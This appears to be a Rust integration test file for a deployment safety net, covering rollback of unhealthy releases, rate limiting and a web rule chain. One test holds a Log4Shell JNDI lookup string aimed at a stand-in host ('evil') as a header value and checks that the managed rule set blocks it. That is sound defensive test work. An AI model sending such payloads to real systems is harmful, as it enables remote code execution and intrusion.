//! Integration tests for the runtime safety net: rollout with rollback and
//! the rule chain in front of a deployed service.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use chrono::{Duration, TimeZone, Utc};
use shipyard_core::infra::{Infrastructure, RuntimeInfrastructure, ServiceDeployment};
use shipyard_core::safety_net::fakes::{LaunchPlan, ScriptedRuntime};
use shipyard_core::safety_net::{RolloutOutcome, RuleChain, SafetyNetConfig, WebRequest};
use shipyard_state::fakes::{MemoryImageRegistry, MemoryParameterStore};
use shipyard_state::ParameterStore;

fn fast_config(replicas: u32) -> SafetyNetConfig {
    SafetyNetConfig {
        rollout_timeout_secs: 30,
        health_poll_interval_secs: 5,
        ..SafetyNetConfig::default()
    }
    .with_replicas(replicas)
}

fn production(
    runtime: Arc<ScriptedRuntime>,
    store: Arc<dyn ParameterStore>,
) -> RuntimeInfrastructure {
    RuntimeInfrastructure::new(Arc::new(MemoryImageRegistry::new()), store)
        .with_environment("production", runtime)
}

fn deployment(image: &str, replicas: u32) -> ServiceDeployment {
    ServiceDeployment {
        environment: "production".to_string(),
        service: "app1".to_string(),
        image: image.to_string(),
        container_port: 3000,
        safety_net: fast_config(replicas),
    }
}

/// Test: an unhealthy release never replaces the serving release
#[tokio::test(start_paused = true)]
async fn test_failed_release_keeps_previous_serving() {
    let runtime = Arc::new(ScriptedRuntime::new());
    let infra = production(runtime.clone(), Arc::new(MemoryParameterStore::new()));

    let first = infra
        .deploy_service(&deployment("repo/app1:v1", 2))
        .await
        .expect("first rollout");
    assert!(first.outcome.is_promoted());

    runtime.push_plan(LaunchPlan::PartiallyHealthy(1));
    let second = infra
        .deploy_service(&deployment("repo/app1:v2", 2))
        .await
        .expect("second rollout");

    match second.outcome {
        RolloutOutcome::RolledBack {
            serving,
            healthy,
            desired,
        } => {
            assert_eq!(healthy, 1);
            assert_eq!(desired, 2);
            assert_eq!(serving.expect("previous set").image, "repo/app1:v1");
        }
        other => panic!("expected rollback, got {other:?}"),
    }

    let serving = infra
        .breaker("production")
        .expect("production breaker")
        .serving("production", "app1")
        .await
        .expect("store readable")
        .expect("serving set");
    assert_eq!(serving.image, "repo/app1:v1");
    assert_eq!(runtime.routed(), vec!["production-app1-1"]);
    assert_eq!(runtime.retired(), vec!["production-app1-2"]);
}

/// Test: a slow but healthy release is promoted and retires the old set
#[tokio::test(start_paused = true)]
async fn test_slow_release_is_promoted_within_timeout() {
    let runtime = Arc::new(ScriptedRuntime::new());
    let infra = production(runtime.clone(), Arc::new(MemoryParameterStore::new()));

    infra
        .deploy_service(&deployment("repo/app1:v1", 1))
        .await
        .unwrap();
    runtime.push_plan(LaunchPlan::HealthyAfterPolls(3));
    let report = infra
        .deploy_service(&deployment("repo/app1:v2", 1))
        .await
        .unwrap();

    assert!(report.outcome.is_promoted());
    assert_eq!(runtime.retired(), vec!["production-app1-1"]);
}

/// Test: separate deploy invocations sharing one store roll back to, and
/// later retire, the release an earlier invocation promoted
#[tokio::test(start_paused = true)]
async fn test_serving_release_is_remembered_between_invocations() {
    let runtime = Arc::new(ScriptedRuntime::new());
    let store: Arc<dyn ParameterStore> = Arc::new(MemoryParameterStore::new());

    let v1 = production(runtime.clone(), store.clone())
        .deploy_service(&deployment("repo/app1:v1", 2))
        .await
        .unwrap();
    assert!(v1.outcome.is_promoted());

    runtime.push_plan(LaunchPlan::NeverHealthy);
    let v2 = production(runtime.clone(), store.clone())
        .deploy_service(&deployment("repo/app1:v2", 2))
        .await
        .unwrap();
    match v2.outcome {
        RolloutOutcome::RolledBack { serving, .. } => {
            assert_eq!(serving.expect("v1 still serving").image, "repo/app1:v1")
        }
        other => panic!("expected rollback, got {other:?}"),
    }

    let v3 = production(runtime.clone(), store)
        .deploy_service(&deployment("repo/app1:v3", 2))
        .await
        .unwrap();
    assert!(v3.outcome.is_promoted());
    assert_eq!(
        runtime.retired(),
        vec!["production-app1-2", "production-app1-1"]
    );
}

/// Test: the rate limit blocks the 101st request of a window, before any
/// managed rule is consulted, and resets with the next window
#[tokio::test]
async fn test_rate_limit_precedes_managed_rules() {
    let chain = RuleChain::from_config(&SafetyNetConfig::default()).unwrap();
    let client = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9));
    let request = WebRequest::get(client, "/orders").with_header("user-agent", "Mozilla/5.0");
    let start = Utc.with_ymd_and_hms(2026, 1, 1, 12, 0, 0).unwrap();

    for i in 0..100 {
        let verdict = chain.evaluate(&request, start + Duration::seconds(i));
        assert!(!verdict.blocked, "request {i} should pass");
    }
    let verdict = chain.evaluate(&request, start + Duration::seconds(100));
    assert!(verdict.blocked);
    assert_eq!(verdict.terminating_rule.as_deref(), Some("rate-limit"));
    assert_eq!(verdict.evaluated.len(), 1);

    let later = start + Duration::seconds(301);
    assert!(!chain.evaluate(&request, later).blocked);
}

/// Test: managed rule sets block known-bad traffic that is under the limit
#[tokio::test]
async fn test_managed_rules_block_bad_inputs() {
    let chain = RuleChain::from_config(&SafetyNetConfig::default()).unwrap();
    let client = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 1));
    let now = Utc::now();

    let log4j = WebRequest::get(client, "/")
        .with_header("user-agent", "Mozilla/5.0")
        .with_header("x-api-version", "${jndi:ldap://evil/a}");
    let verdict = chain.evaluate(&log4j, now);
    assert!(verdict.blocked);
    assert_eq!(
        verdict.terminating_rule.as_deref(),
        Some("KnownBadInputsRuleSet")
    );

    let script = WebRequest::get(client, "/").with_header("user-agent", "curl/8.0");
    let verdict = chain.evaluate(&script, now);
    assert_eq!(verdict.terminating_rule.as_deref(), Some("BotControlRuleSet"));
}
